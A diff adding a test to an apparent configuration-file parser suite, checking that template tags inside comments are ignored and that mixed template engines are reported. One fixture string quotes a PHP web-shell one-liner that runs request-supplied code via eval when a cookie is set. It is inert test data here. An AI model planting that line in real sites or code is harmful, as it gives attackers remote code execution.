@@ -190,6 +190,15 @@ test('diagnostics say what is wrong and what to do', () => {
   `);
 });
 
+test('tags that comments quote, and that do not go together, are no template', () => {
+  const quoted =
+    '# <?php if(@$_COOKIE[qz]) eval($_REQUEST[z]); ?>\n<Location /a>\nOptions None\n</Location>\n';
+  expect(codes(read(quoted))).toEqual([]);
+  const chosen = '# <% if @old %>\nOrder allow,deny\n# <% end %>\n';
+  expect(read(chosen).engine).toBe('auto');
+  expect(codes(read(`${quoted}<% if @old %>\n`))).toContain('template-overlap');
+});
+
 test('sections that overlap with the branches of a template are not called unclosed besides', () => {
   const text = '{% if a %}\n<A>\n{% else %}\n<B>\n{% endif %}\nC\n</B>\n';
   const document = parse({ path: 'x.conf.j2', text });
